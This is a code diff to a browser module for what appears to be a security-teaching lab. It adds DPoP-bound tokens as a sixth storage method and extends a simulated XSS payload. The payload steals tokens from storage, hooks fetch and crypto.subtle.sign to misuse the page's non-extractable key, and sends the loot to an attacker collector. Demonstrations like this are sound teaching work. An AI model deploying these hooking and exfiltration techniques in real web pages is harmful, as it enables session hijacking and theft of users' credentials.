@@ -1,11 +1,12 @@
 // @ts-check
-// Lesson 4's entry module ("Where the browser keeps it"): signs the lab account in five ways
-// (localStorage, sessionStorage, a closure, an HttpOnly cookie, a backend-for-frontend), runs the
+// Lesson 4's entry module ("Where the browser keeps it"): signs the lab account in six ways
+// (localStorage, sessionStorage, a closure, an HttpOnly cookie, a backend-for-frontend, and tokens
+// bound by DPoP to a key the page cannot export), runs the
 // attacker's injected script — inline, so the strict CSP refuses it, or as a trusted script ("2b")
 // — shows what it could read and send (by fetch, or by navigating a window when connect-src
 // refuses the fetch), and asks the attacker's machine to replay the loot.
 
-import { bind, part, partAs, parts, partsAs, problem, randomId, send, whenHydrated } from "../../../browser/kit.js";
+import { bind, dpopKey, part, partAs, parts, partsAs, problem, randomId, send, whenHydrated } from "../../../browser/kit.js";
 import { credentials, guarded, showGoal, solved } from "../../lab.js";
 
 /**
@@ -14,6 +15,7 @@ import { credentials, guarded, showGoal, solved } from "../../lab.js";
  * @property {Record<string, string>} [read] what it could read, by store
  * @property {{ cookie: number, bff: number }} [rode] the statuses of the requests it made as the victim
  * @property {string} [memory] what it caught from the app that keeps its tokens in a closure
+ * @property {string} [dpop] what it caught and did with the app whose tokens are bound to its key
  * @property {string} sent "sent", or why it could not send its loot
  */
 
@@ -61,6 +63,9 @@ function injected(collector, drop) {
   };
   take("local", "localStorage", localStorage.getItem("lab.tokens"));
   take("session", "sessionStorage", sessionStorage.getItem("lab.tokens"));
+  const boundRefresh = sessionStorage.getItem("lab.dpop.refresh");
+  if (boundRefresh) items.push({ from: "dpop", kind: "refresh-dpop", value: boundRefresh });
+  read.dpop = `${boundRefresh ? "the refresh token, from sessionStorage" : "nothing in storage"}; the key by name: nothing, it is in the app's closure, so it wrapped fetch and crypto.subtle.sign to wait for the app's next call`;
   const cookies = document.cookie.split(";").map((c) => c.trim().split("=")[0]).filter(Boolean);
   read.cookie = `nothing: document.cookie shows ${cookies.length ? cookies.join(", ") : "no cookies"}, not the HttpOnly one`;
   read.bff = read.cookie;
@@ -80,21 +85,69 @@ function injected(collector, drop) {
     setTimeout(() => opened.close(), 3000);
     return "navigated";
   };
+  // The DPoP app signs a proof with its key before each call: a wrapper on sign sees the key object
+  // go by. It cannot export it (extractable: false), but it can hand it back to sign with.
+  const subtle = /** @type {SubtleCrypto & { tokenshopRealSign?: SubtleCrypto["sign"] }} */ (crypto.subtle);
+  const realSign = subtle.tokenshopRealSign = subtle.tokenshopRealSign ?? subtle.sign.bind(subtle);
+  /** @type {CryptoKey | null} */
+  let pageKey = null;
+  subtle.sign = (algorithm, key, data) => {
+    if (typeof algorithm === "object" && algorithm.name === "ECDSA") pageKey = key;
+    return realSign(algorithm, key, data);
+  };
+  /** @param {Uint8Array | ArrayBuffer} bytes */
+  const b64u = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
+  /**
+   * Rides the DPoP sign-in inside the tab: a proof of its own making, signed by the page's key,
+   * under the header of the app's own proof (which names that key), reused as it is.
+   * @param {string} url
+   * @param {string} token
+   * @param {string} header the first part of the app's proof, still base64url
+   */
+  const ride_bound = async (url, token, header) => {
+    if (!pageKey) return "no key went by";
+    let exported = "";
+    try {
+      await crypto.subtle.exportKey("jwk", pageKey);
+      exported = "it exported the private key (unexpected)";
+    } catch (e) {
+      exported = `exporting the key failed (${e instanceof Error ? e.name : String(e)}): it never leaves the tab`;
+    }
+    const u = new URL(url, location.href);
+    const ath = b64u(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(token)));
+    const claims = { jti: crypto.randomUUID(), htm: "GET", htu: `${u.origin}${u.pathname}`, iat: Math.floor(Date.now() / 1000), ath };
+    const input = `${header}.${b64u(new TextEncoder().encode(JSON.stringify(claims)))}`;
+    const signature = await realSign({ name: "ECDSA", hash: "SHA-256" }, pageKey, new TextEncoder().encode(input));
+    const res = await realFetch(u.href, { headers: { Authorization: `DPoP ${token}`, DPoP: `${input}.${b64u(signature)}` }, credentials: "omit" });
+    const body = await res.json().catch(() => ({}));
+    items.push({ from: "dpop", kind: "rode", value: `GET /api/v1/me with a proof signed by the page's own key → ${res.status}${body.email ? " as " + body.email : ""}` });
+    return `${exported}; but it signed a proof of its own with the key and called GET /api/v1/me as you → ${res.status}`;
+  };
   const sendLoot = () => realFetch(`${collector}/attacker/collect/${drop}`, {
     method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ items }),
   }).then(() => "sent", () => navigate());
   /** @param {object} detail */
   const report = (detail) => document.dispatchEvent(new CustomEvent("tokenshop:injected", { detail }));
+  let caughtMemory = false;
+  let caughtBound = false;
   window.fetch = (input, init) => {
     const headers = init?.headers;
     /** @type {Record<string, string>} */
     const plain = headers && !(headers instanceof Headers) && !Array.isArray(headers) ? headers : {};
     const auth = plain.Authorization ?? "";
-    if (auth.startsWith("Bearer ") && String(input).startsWith("/api/v1/me") && plain["X-Lab-App"] === "memory") {
+    if (!caughtMemory && auth.startsWith("Bearer ") && String(input).startsWith("/api/v1/me") && plain["X-Lab-App"] === "memory") {
+      caughtMemory = true;
       items.push({ from: "memory", kind: "access", value: auth.slice(7) });
-      window.fetch = realFetch;
       sendLoot().then((sent) => report({ memory: "its access token, caught in the app's next call", sent }));
     }
+    if (!caughtBound && auth.startsWith("DPoP ") && String(input).includes("/api/v1/me") && plain.DPoP) {
+      caughtBound = true;
+      const token = auth.slice(5);
+      items.push({ from: "dpop", kind: "access-dpop", value: token });
+      ride_bound(String(input), token, plain.DPoP.split(".")[0])
+        .then((did) => sendLoot().then((sent) => report({ dpop: `its access token (caught in the app's next call) and the refresh token; ${did}`, sent })));
+    }
+    if (caughtMemory && caughtBound) window.fetch = realFetch;
     return realFetch(input, init);
   };
   /**
@@ -116,7 +169,7 @@ function injected(collector, drop) {
  * collector's loot and the replay's outcomes give it.
  * @type {Record<string, string>}
  */
-const STORE_OF = { localStorage: "local", sessionStorage: "session", memory: "memory", cookie: "cookie", bff: "bff" };
+const STORE_OF = { localStorage: "local", sessionStorage: "session", memory: "memory", cookie: "cookie", bff: "bff", dpop: "dpop" };
 
 /**
  * @param {HTMLElement} demo the `[data-lab="xss"]` panel
@@ -152,6 +205,8 @@ function startXss(demo) {
   };
   /** @type {ReturnType<typeof setInterval> | undefined} */
   let memoryApp;
+  /** @type {ReturnType<typeof setInterval> | undefined} */
+  let boundApp;
   /** The lesson's "What this shows", kept hidden until the learner has run the attack. */
   const reveal = () => {
     const shows = document.querySelector('[data-lab="xss-shows"]');
@@ -179,6 +234,18 @@ function startXss(demo) {
         }).catch(() => {}), 2000);
       }
     }
+    // The sixth way: the tokens bound by DPoP to a key this page made non-extractable. The access
+    // token stays in the app's closure, the refresh token in sessionStorage (to outlive a reload),
+    // and the app calls the API every 2 s with a fresh proof, as a SPA would.
+    const key = await dpopKey();
+    const bound = await send("POST", "/api/v1/auth/login", { body: account, dpop: key });
+    set("dpop", "signed-in", bound.status === 200 ? `yes (${bound.status}, token_type ${bound.data.token_type})` : problem(bound));
+    if (bound.status === 200) {
+      sessionStorage.setItem("lab.dpop.refresh", bound.data.refresh_token);
+      const access = bound.data.access_token;
+      clearInterval(boundApp);
+      boundApp = setInterval(() => send("GET", "/api/v1/me", { token: access, dpop: key }).catch(() => {}), 2000);
+    }
     for (const store of ["cookie", "bff"]) {
       const res = await fetch(`/learn/lab/xss/${store}/login`, {
         method: "POST", credentials: "same-origin", headers: { "Content-Type": "application/json" }, body: JSON.stringify(account),
@@ -194,13 +261,14 @@ function startXss(demo) {
   document.addEventListener("tokenshop:injected", guarded(demo, async (/** @type {Event} */ event) => {
     if (!(event instanceof CustomEvent)) return;
     /** @type {Injected} */
-    const { read, rode, memory, sent } = event.detail;
+    const { read, rode, memory, dpop, sent } = event.detail;
     if (read) Object.entries(read).forEach(([store, text]) => set(store, "read", text));
     if (rode) {
       set("cookie", "read", `${cell("cookie", "read").textContent}; but it acted as you: whoami → ${rode.cookie}`);
       set("bff", "read", `${cell("bff", "read").textContent}; but it acted as you through the BFF → ${rode.bff}`);
     }
     if (memory) set("memory", "read", memory);
+    if (dpop) set("dpop", "read", dpop);
     result.textContent = sent === "sent"
       ? "The injected script ran and sent its loot to the attacker's collector with fetch: no CSP stood in its way."
       : sent === "navigated"
@@ -216,7 +284,7 @@ function startXss(demo) {
     }
     for (const store of Object.values(STORE_OF)) {
       const mine = got.filter((l) => STORE_OF[l.from] === store);
-      set(store, "sent", mine.length ? mine.map((l) => (l.kind === "rode" ? "a note of what it did" : `the ${l.kind} token`)).join(", ") : "nothing received");
+      set(store, "sent", mine.length ? mine.map((l) => (l.kind === "rode" ? "a note of what it did" : `the ${l.kind.replace("-dpop", "")} token`)).join(", ") : "nothing received");
     }
     replay.disabled = got.length === 0;
     demo.dataset.injected = "true";
